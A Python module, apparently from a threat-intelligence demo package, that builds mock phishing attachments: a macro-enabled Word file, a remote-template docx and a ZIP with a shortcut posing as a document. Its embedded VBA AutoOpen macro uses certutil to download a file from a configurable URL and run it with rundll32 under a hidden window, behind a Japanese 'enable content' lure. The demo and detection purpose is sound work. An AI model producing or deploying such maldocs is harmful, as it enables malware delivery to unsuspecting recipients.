"""The demo mails' attachments, built from the scenario's description of each one: a macro
document, a Word document with a remote template, a password-protected ZIP holding a shortcut that
poses as a Word document. All deterministic, all inert.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Any

from aptlink.analysis import builders
from aptlink.demo import vba

Built = tuple[str, bytes, str]  # file name, bytes, MIME subtype

MACRO_SOURCE = """Attribute VB_Name = "ThisDocument"
Attribute VB_Base = "1Normal.ThisDocument"
Attribute VB_GlobalNameSpace = False
Attribute VB_Creatable = False
Attribute VB_PredeclaredId = True
Attribute VB_Exposed = True
Attribute VB_TemplateDerived = True
Attribute VB_Customizable = True
Sub AutoOpen()
    Dim p As String
    p = Environ("APPDATA") & "\\Microsoft\\Templates\\"
    ActiveDocument.Content.Font.Hidden = False
    Shell "cmd /c certutil -urlcache -split -f {url} " & p & "wbcache.dat & rundll32 " & p & "wbcache.dat,Start", vbHide
End Sub
"""


def build(spec: Mapping[str, Any] | None) -> Built | None:
    """The attachment a mail carries, or None for a mail without one."""
    if not spec:
        return None
    return BUILDERS[spec["kind"]](spec)


def macro_doc(spec: Mapping[str, Any]) -> Built:
    streams = {
        **vba.word97_stub("コンテンツの有効化をクリックしてください"),
        **vba.vba_streams(MACRO_SOURCE.format(url=spec["url"])),
    }
    return spec["name"], vba.make_cfb(streams), "msword"


def remote_template_docx(spec: Mapping[str, Any]) -> Built:
    text = " ".join(spec.get("text", []))
    data = builders.make_docx(spec["template"], text=text, author=spec["author"])
    return spec["name"], data, "vnd.openxmlformats-officedocument.wordprocessingml.document"


def shortcut(spec: Mapping[str, Any]) -> bytes:
    """The ``.lnk`` of an ``encrypted_zip_lnk`` attachment (also hashed for the intel bundle)."""
    lnk = spec["lnk"]
    return builders.make_lnk(
        lnk["target"], lnk["arguments"], lnk["icon"], description=lnk.get("description", "")
    )


def encrypted_zip_lnk(spec: Mapping[str, Any]) -> Built:
    # ZipCrypto, not AES: it is what the lures used (Windows opens it without extra software)
    members = {spec["member"]: shortcut(spec)}
    return spec["name"], builders.make_zip(members, spec["password"], aes=False), "zip"


BUILDERS: Mapping[str, Callable[[Mapping[str, Any]], Built]] = {
    "macro_doc": macro_doc,
    "remote_template_docx": remote_template_docx,
    "encrypted_zip_lnk": encrypted_zip_lnk,
}
